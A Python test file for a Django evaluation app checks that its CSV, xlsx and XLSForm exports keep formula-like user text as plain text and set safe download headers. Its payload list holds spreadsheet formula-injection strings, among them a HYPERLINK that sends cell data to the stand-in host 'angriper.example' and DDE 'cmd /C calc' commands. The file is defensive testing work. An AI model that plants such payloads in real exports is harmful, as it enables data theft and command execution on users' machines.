"""Exports open safely in a spreadsheet: user text that looks like a formula stays text."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from boligsosial.evaluation import services
from boligsosial.evaluation.tests import factories as f
from boligsosial.evaluation.tests.test_questionnaires import _all_required

PAYLOADS = [
    '=HYPERLINK("http://angriper.example/?d="&A1;"Klikk")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _answer_with_payloads(world, fieldwork):
    """Answers sent through personal links (no user), carrying formula-like text."""
    for number, payload in enumerate(PAYLOADS):
        respondent = f.make_respondent(
            world, fieldwork.questionnaire, world.drammen_participation, f"rolle {number}"
        )
        data = _all_required("ja")
        data["oppmerksomhet"] = {"value": "ja", "comment": payload}
        services.answers_save(respondent=respondent, data=data, submit=True, user=None)


def test_the_results_workbook_has_no_formula_cell_and_keeps_payloads_as_text(
    world, fieldwork, client_for
):
    _answer_with_payloads(world, fieldwork)
    response = client_for(world.evaluator).get(
        reverse("evaluation:results", args=[fieldwork.evaluation.pk]), {"format": "xlsx"}
    )
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for payload in PAYLOADS:
        assert "'" + payload.strip() in texts  # answers are stored without outer whitespace
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)


def test_the_results_csv_prefixes_formula_like_text(world, fieldwork, client_for):
    _answer_with_payloads(world, fieldwork)
    response = client_for(world.evaluator).get(
        reverse("evaluation:results", args=[fieldwork.evaluation.pk]), {"format": "csv"}
    )
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    fields = [field for row in csv.reader(io.StringIO(text), delimiter=";") for field in row]
    for payload in PAYLOADS:
        assert "'" + payload.strip() in fields
    assert not any(field.startswith(("=", "+", "@", "\t", "\r")) for field in fields)
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"


def test_the_xlsform_export_writes_no_formula_and_reimports_the_same_labels(
    world, fieldwork, client_for
):
    from boligsosial.evaluation import xlsform
    from boligsosial.evaluation.models import QuestionKind, QuestionnaireStatus

    questionnaire = fieldwork.questionnaire
    questionnaire.status = QuestionnaireStatus.DRAFT
    questionnaire.save()
    services.question_add(
        user=world.evaluator,
        questionnaire=questionnaire,
        name="formel",
        kind=QuestionKind.TEXT,
        label='=HYPERLINK("http://angriper.example")',
        hint="-2+3",
    )
    response = client_for(world.evaluator).get(
        reverse("evaluation:questionnaire_xlsform", args=[questionnaire.pk])
    )
    content = b"".join(response.streaming_content)
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    spec = xlsform.parse_xlsform(content)
    [question] = [
        q for item in spec["items"] for q in item.get("items", [item]) if q["name"] == "formel"
    ]
    assert (question["label"], question["hint"]) == (
        '=HYPERLINK("http://angriper.example")',
        "-2+3",
    )


def test_every_fieldwork_download_is_a_private_attachment(world, fieldwork, client_for):
    client = client_for(world.evaluator)
    ev = fieldwork.evaluation.pk
    urls = [
        reverse("evaluation:results", args=[ev]) + "?format=csv",
        reverse("evaluation:results", args=[ev]) + "?format=xlsx",
        reverse("evaluation:questionnaire_xlsform", args=[fieldwork.questionnaire.pk]),
        reverse("evaluation:codebook_export", args=[ev]),
        reverse("evaluation:project_export", args=[ev]),
        reverse("evaluation:document_download", args=[fieldwork.document.pk]),
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Disposition"].startswith("attachment;"), url
        assert response["X-Content-Type-Options"] == "nosniff", url
        assert response["Cache-Control"] == "private, no-store", url
        assert response["Content-Security-Policy"].startswith("sandbox"), url
